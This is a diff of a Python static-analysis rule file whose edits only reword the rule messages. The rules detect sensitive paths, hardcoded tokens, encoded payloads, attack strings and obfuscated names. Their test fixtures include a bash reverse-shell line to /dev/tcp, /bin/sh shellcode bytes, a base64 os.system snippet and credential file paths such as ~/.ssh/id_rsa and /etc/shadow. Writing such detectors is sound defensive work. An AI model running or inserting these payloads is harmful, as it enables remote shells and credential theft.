@@ -15,11 +15,11 @@ from engine.models import Confidence, Language, Level
 
 SENSITIVE_NAME = python_rule(
     "py-sensitive-path",
-    "A sensitive place is named",
+    "A sensitive path is named",
     "fs_sensitive",
     Level.MEDIUM,
-    attack="Knows where accounts, keys, tokens and browsers' secrets lie.",
-    why="MEDIUM: only a text; HIGH violations follow where the file is touched.",
+    attack="Locates accounts, keys, tokens and browser secrets.",
+    why="MEDIUM: this is only a string; access to the file is reported as HIGH.",
     fix="Remove it.",
     match=("x = '~/.ssh/id_rsa'", "find('/etc/shadow')"),
     not_match=("x = 'ssh'", "x = 'identity'"),
@@ -27,24 +27,24 @@ SENSITIVE_NAME = python_rule(
 )
 HARDCODED = python_rule(
     "py-hardcoded-secret",
-    "A token stands in the code",
+    "The code contains a token",
     "secrets_env",
     Level.MEDIUM,
-    attack="Lets every reader use it, or sends stolen data to the attacker's own account.",
-    why="MEDIUM: its form is that of a real token.",
-    fix="Ask for the secret by reference, and revoke this one.",
+    attack="Lets every reader use it, or sends stolen data to the attacker's account.",
+    why="MEDIUM: it has the format of a real token.",
+    fix="Revoke this token, and request the secret by reference.",
     match=("t = 'AKIAIOSFODNN7EXAMPLE'", "t = 'ghp_' 'abcdefghijklmnopqrstuvwxyz0123456789'"),
     not_match=("t = 'AKIA'",),
     cwe=798,
 )
 PAYLOAD = python_rule(
     "py-payload",
-    "A text holds encoded code or machine code",
+    "A string contains encoded code or machine code",
     "obfuscation",
     Level.MEDIUM,
-    attack="Carries a payload past the reader.",
+    attack="Carries a payload that the reader does not notice.",
     why="MEDIUM: nothing here shows that it runs; CRITICAL where it does.",
-    fix="Send the decoded content.",
+    fix="Submit the decoded content.",
     match=(
         "x = 'aW1wb3J0IG9zCm9zLnN5c3RlbSgnbHMnKQ=='",
         r"x = b'\x31\xc0\x50\x68//sh\x68/bin\x89\xe3\x50\x53\x89\xe1\x99\xb0\x0b\xcd\x80'",
@@ -54,11 +54,11 @@ PAYLOAD = python_rule(
 )
 ATTACK_TEXT = python_rule(
     "py-attack-text",
-    "A text belongs to an attack",
+    "A string is typical of an attack",
     "malware",
     Level.MEDIUM,
-    attack="Names a collector's address, a tool or a command of an attack.",
-    why="MEDIUM: only a text; the use of it has violations of its own.",
+    attack="Names a collection server, a tool or a command of an attack.",
+    why="MEDIUM: this is only a string; its use is reported separately.",
     fix="Remove it.",
     match=("x = 'bash -i >& /dev/tcp/10.0.0.1/80 0>&1'",),
     not_match=("x = 'ssh'",),
@@ -69,9 +69,9 @@ OBFUSCATOR = python_rule(
     "The code looks like the output of an obfuscator",
     "obfuscation",
     Level.MEDIUM,
-    attack="Makes the code unreadable, so that nobody reads it.",
-    why="MEDIUM: names such as these are not made by people.",
-    fix="Send the original code.",
+    attack="Makes the code unreadable.",
+    why="MEDIUM: people do not write such names.",
+    fix="Submit the original code.",
     match=("__obfuscator__ = 'x'", "O0O0O0O0O = 1", "_____ = 1"),
     not_match=("O = 0", "_ = 1", "__ = 2"),
     confidence=Confidence.MEDIUM,
@@ -123,11 +123,11 @@ def _check_words(evaluator: Evaluator, node: ast.Constant, text: str) -> None:
         _check_encoded(evaluator, node, text)
         return
     if (len(text) >= _SHORTEST_TOKEN or "pypi-" in text) and _TOKEN.search(text):
-        evaluator.report(HARDCODED, node, "A token in its real form")
+        evaluator.report(HARDCODED, node, "Has the format of a real token")
     if _ATTACK.search(text.lower()):
         evaluator.report(ATTACK_TEXT, node, f"`{text.strip()[:80]}`")
     elif "_" in text and _GADGET.search(text):
-        evaluator.report(objects.PROBE, node, f"A text for another interpreter: `{text.strip()[:80]}`")
+        evaluator.report(objects.PROBE, node, f"Code for another interpreter: `{text.strip()[:80]}`")
     elif len(text) < 300 and is_sensitive(text):
         evaluator.report(SENSITIVE_NAME, node, f"Names `{text.strip()[:80]}`")
     if len(text) >= 24 and _BASE64.match(text):
@@ -199,4 +199,4 @@ def _hexadecimal(evaluator: Evaluator, node: ast.AST) -> bool:
 def check_name(evaluator: Evaluator, node: ast.AST, name: str) -> None:
     """Look at a name that the code itself gives."""
     if _OBFUSCATED.match(name):
-        evaluator.report(OBFUSCATOR, node, f"`{name[:40]}` is no name that a person gives")
+        evaluator.report(OBFUSCATOR, node, f"`{name[:40]}` is not a name that a person would choose")
